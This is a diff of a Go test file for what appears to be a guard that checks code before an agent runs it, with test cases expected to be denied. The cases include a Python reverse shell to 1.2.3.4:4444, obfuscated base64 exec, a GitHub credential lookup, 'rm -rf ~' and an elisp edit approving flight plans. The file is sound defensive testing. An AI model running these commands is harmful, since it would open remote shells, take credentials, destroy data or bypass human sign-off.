@@ -136,7 +136,7 @@ func TestEvalVector(t *testing.T) {
 		{"base64 exec", ev("python", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"), VerdictDeny, "hidden"},
 		{"reverse shell", ev("python", "import socket,subprocess\ns=socket.socket()\ns.connect(('1.2.3.4',4444))\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno())"), VerdictDeny, "reverse shell"},
 		{"credential api", ev("elisp", `(auth-source-search :host "github.com")`), VerdictDeny, "credential"},
-		{"flight plans", ev("elisp", `(with-current-buffer (find-file-noselect "flightplans.org") (org-todo "APPROVED"))`), VerdictDeny, "human"},
+		{"flight plans", ev("elisp", `(with-current-buffer (find-file-noselect "flightplans.org") (org-todo "APPROVED"))`), VerdictDeny, "self_modification"},
 		{"sh lang", ev("sh", "rm -rf ~"), VerdictDeny, ""},
 	})
 }
